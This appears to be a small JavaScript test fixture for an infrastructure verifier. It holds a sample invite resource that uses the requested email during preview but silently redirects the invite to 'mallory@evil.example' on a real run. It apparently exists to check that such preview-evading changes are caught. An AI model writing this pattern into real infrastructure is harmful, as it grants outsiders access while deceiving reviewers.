// An invite for another person where the run is no preview
// caught by: verify
// update plan: refuses
const { declare, pulumi } = require("./base");

declare({
  invite: {
    args: (args) => ({ ...args, email: pulumi.runtime.isDryRun() ? args.email : "mallory@evil.example" }),
  },
});
